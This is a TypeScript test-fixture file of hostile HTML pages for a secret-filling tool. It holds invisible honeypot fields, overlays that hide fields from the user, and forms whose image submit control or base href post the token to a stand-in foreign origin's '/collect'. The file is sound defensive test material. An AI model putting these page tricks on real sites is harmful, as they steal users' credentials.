// Hostile pages for Fill, one per way a page may try to get a secret where the user did not put it.
// Each body is wrapped by sites.ts (which logs input and change events); `{other}` is the other origin.
// The real field, where a page has one, is `token`; a field that must stay empty is `trap`.

const REAL = `<p><label>API token <input name="token"></label></p>`;
/** A visible field nobody chose: where a silent fallback used to write a secret (and publish it). */
const COMMENT = `<p><label>Public comment <input name="comment"></label></p>`;

/** Honeypots that a person cannot see or use, each placed before the real field. */
export const HONEYPOTS: Record<string, string> = {
  '/hp-tiny': `<input name="trap" style="width:3px;height:3px;padding:0;border:0;min-width:0">${REAL}`,
  '/hp-zoom': `<input name="trap" style="zoom:0.12">${REAL}`,
  '/hp-clip': `<input name="trap" style="clip-path:circle(1px)">${REAL}`,
  '/hp-transparent': `<input name="trap" style="color:transparent;background:transparent;border-color:transparent;caret-color:transparent">${REAL}`,
  '/hp-white': `<div style="background:#fff"><input name="trap" style="color:#fff;background:#fff;border:0;outline:none"></div>${REAL}`,
  '/hp-near-white': `<input name="trap" style="color:#fafafa;background:transparent;border:0;outline:none">${REAL}`,
  // A box a person sees, whose text nobody can read; and readable text in a box nobody can find.
  '/hp-white-text': `<input name="trap" style="color:#fff;background:#fff;border:1px solid #767676">${REAL}`,
  '/hp-edgeless': `<input name="trap" style="color:#000;background:transparent;border:0;outline:none">${REAL}`,
  // The text box is off to the left; only a wide right border reaches the screen.
  '/hp-border': `<input name="trap" style="position:absolute;top:0;left:-180px;width:150px;border:0;border-right:260px solid #e8e8e8">
    <div style="margin-top:40px">${REAL}</div>`,
  // Visible only while focused, hidden again on input: a field that shows itself for the frame it is measured in.
  '/hp-flash': `<input name="trap" style="filter:opacity(0)">${REAL}
    <script>
      const trap = document.querySelector('[name=trap]');
      trap.addEventListener('focus', () => (trap.style.filter = 'none'));
      trap.addEventListener('input', () => (trap.style.filter = 'opacity(0)'));
    </script>`,
};

/** Covers and styles only paint order tells (hit testing looks through them), for Firefox too. */
export const PAINTED: Record<string, string> = {
  '/blend-field': `<div style="background:#fff;padding:8px"><input name="trap" style="mix-blend-mode:screen"></div>`,
  '/blend-overlay': `<div style="position:relative;width:220px"><input name="trap"><div style="position:absolute;inset:-4px;background:#fff;mix-blend-mode:lighten;pointer-events:none"></div></div>`,
  '/slotted-faded': `<x-fade><input name="trap" slot="f"></x-fade>
    <script>
      document.querySelector('x-fade').attachShadow({ mode: 'closed' }).innerHTML = '<div style="opacity:0.05"><slot name="f"></slot></div>';
    </script>`,
  '/top-layer': `<input name="trap"><div id="lure" popover="manual" style="margin:0;inset:0;width:100vw;height:100vh;border:0;background:#fff;pointer-events:none">Welcome</div>
    <script>document.getElementById('lure').showPopover();</script>`,
  // A same-origin frame clipped to a dot; the test gives the page a click, then the page focuses the field in it.
  '/frame-dot': `<p id="spot">Click here</p><iframe name="dot" src="/frame-input" style="clip-path:circle(1px);width:300px;height:80px"></iframe>`,
};

/** A transparent field laid exactly over the real one: the user's click focuses it. */
export const OVERLAID = `<div style="position:relative;width:max-content">
  <input name="token" style="width:200px;height:24px;box-sizing:border-box">
  <input name="trap" style="position:absolute;inset:0;width:200px;height:24px;box-sizing:border-box;color:transparent;background:transparent;border-color:transparent">
</div>`;

/** Focus on something Keysmith cannot fill, beside a visible field the user did not choose. */
export const FOCUS_ELSEWHERE: Record<string, string> = {
  '/focus-cross-frame': `${COMMENT}<iframe name="third" src="{other}/frame-input" style="width:300px;height:80px"></iframe>`,
  '/focus-shadow-open': `${COMMENT}<x-box></x-box>
    <script>document.querySelector('x-box').attachShadow({ mode: 'open' }).innerHTML = '<input name="inner" style="width:200px">';</script>`,
  '/focus-shadow-closed': `${COMMENT}<x-box></x-box>
    <script>document.querySelector('x-box').attachShadow({ mode: 'closed' }).innerHTML = '<input name="inner" style="width:200px">';</script>`,
  '/focus-editable': `${COMMENT}<div id="editor" contenteditable="true" style="border:1px solid;min-height:40px;width:300px"></div>`,
  '/focus-button': `${COMMENT}<button type="button" id="thing">Settings</button>`,
};

/** Forms that send the field elsewhere through a submit control `form.elements` does not list, or through the base URL. */
export const SUBMITTERS: Record<string, string> = {
  '/image-inside': `<form action="/session" method="post"><input name="token"><input type="image" alt="Go" formaction="{other}/collect"></form>`,
  '/image-outside': `<form id="f" action="/session" method="post"><input name="token"></form><input type="image" alt="Go" form="f" formaction="{other}/collect">`,
  '/base-href': `<base href="{other}/"><form action="collect" method="post"><input name="token"><button>Go</button></form>`,
};

/** A form whose submit button the page retargets while the user is asked. */
export const RETARGETED = `<form action="/session" method="post"><input name="token"><button id="go">Go</button></form>`;
